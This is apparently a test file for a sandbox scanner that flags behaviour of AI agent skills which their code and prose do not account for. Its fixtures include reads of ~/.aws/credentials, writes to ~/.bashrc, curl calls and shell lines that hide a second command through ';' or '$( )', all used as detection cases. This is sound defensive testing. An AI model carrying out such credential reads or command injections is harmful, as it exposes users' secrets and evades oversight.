import { expect, test } from "vitest";
import { wholeFile } from "../../../../src/core/location.ts";
import { asPath } from "../../../../src/core/ids.ts";
import { wordTarget } from "../../../../src/core/capability.ts";
import type { Behaviour } from "../../../../src/scanners/sandbox/observe/behaviour.ts";
import { findUnseen } from "../../../../src/scanners/sandbox/observe/find-unseen.ts";
import { understandSkill } from "../../../support/understand.ts";

type Shows = NonNullable<Behaviour["shows"]>;

const AT = wholeFile(asPath("skill/SKILL.md"));

async function unseen(files: Readonly<Record<string, string>>, shows: Shows) {
  const side = await understandSkill({ "skill/SKILL.md": "# Report\n", ...files });
  const behaviour: Behaviour = { kind: "open", target: shows.target, cause: "python3 a.py", shows };
  return findUnseen([behaviour, { ...behaviour, shows: null }, behaviour], side, AT);
}

const NETWORK = { kind: "network", target: "api.example.com:8443" } as const;
const READING = { kind: "fs-read", target: "~/.aws/credentials" } as const;
const WRITING = { kind: "fs-write", target: "~/.bashrc" } as const;
const RUNNING = { kind: "exec", target: "curl -s https://x.example" } as const;

test.each<readonly [string, Readonly<Record<string, string>>, Shows, boolean]>([
  ["a host of which nothing is said", {}, NETWORK, true],
  [
    "a host that code names without the port",
    { "skill/a.py": 'import requests\nrequests.get("https://api.example.com/x")\n' },
    NETWORK,
    false,
  ],
  [
    "another host than code names",
    { "skill/a.py": 'import requests\nrequests.get("https://other.example/x")\n' },
    NETWORK,
    true,
  ],
  [
    "a host, where code may contact any",
    { "skill/a.py": "import requests, sys\nrequests.get(sys.argv[1])\n" },
    NETWORK,
    false,
  ],
  [
    "a host that the prose tells to contact",
    { "skill/SKILL.md": "Fetch https://api.example.com/x with curl.\n" },
    NETWORK,
    false,
  ],
  ["a secret of which nothing is said", {}, READING, true],
  [
    "a secret that code reads",
    { "skill/a.py": 'import os\nopen(os.path.expanduser("~/.aws/credentials"))\n' },
    READING,
    false,
  ],
  ["what is nobody's secret", {}, { kind: "fs-read", target: "/srv/data/x.csv" }, false],
  ["a start-up file of which nothing is said", {}, WRITING, true],
  [
    "a start-up file that code writes",
    { "skill/a.py": 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")\n' },
    WRITING,
    false,
  ],
  ["its own file", {}, { kind: "fs-write", target: "notes.txt" }, false],
  ["a program of which nothing is said", {}, RUNNING, true],
  [
    "a program that code runs with other arguments",
    { "skill/a.py": 'import subprocess\nsubprocess.run(["curl", "https://y.example"])\n' },
    RUNNING,
    false,
  ],
  [
    "a shell that a library starts for what code runs",
    { "skill/a.py": 'import os\nos.system("git status; git log | head")\n' },
    { kind: "exec", target: "sh -c git status; git log | head" },
    false,
  ],
  [
    "a shell for something else as well",
    { "skill/a.js": 'require("child_process").execSync("clawdbot models")\n' },
    { kind: "exec", target: "sh -c clawdbot models; curl -s https://x.example" },
    true,
  ],
  [
    "a shell whose line hides commands",
    { "skill/a.js": 'require("child_process").execSync("clawdbot models")\n' },
    { kind: "exec", target: "sh -c clawdbot $(curl -s https://x.example)" },
    true,
  ],
  [
    "the folder of a file that code writes",
    { "skill/a.py": 'import os\nopen(os.path.expanduser("~/.config/kit/settings.json"), "w").write("x")\n' },
    { kind: "fs-write", target: "~/.config" },
    false,
  ],
])("%s", async (_, files, shows, isUnseen) => {
  const { capabilities, findings } = await unseen(files, shows);
  expect(capabilities.map(({ kind, target, origins }) => [kind, wordTarget(target), origins])).toEqual(
    isUnseen ? [[shows.kind, shows.target, ["observed"]]] : [],
  );
  expect(findings.map(({ rule, severity, primary }) => [rule, severity, primary.path])).toEqual(
    isUnseen ? [["sandbox/unseen-capability", "high", "skill/SKILL.md"]] : [],
  );
});

test("the message says what it does and who does it, without secrets; the key is the thing alone", async () => {
  const key = `ghp_${"a1".repeat(18)}`;
  const one = await unseen({}, { kind: "exec", target: `curl -H ${key} https://x.example` });
  expect(one.findings[0]?.message).toMatch(
    /^The artifact does what nothing of it shows: it runs curl -H ghp_\*+ https:\/\/x\.example \(seen in python3 a\.py\)$/u,
  );
  expect(JSON.stringify(one)).not.toContain(key);
});
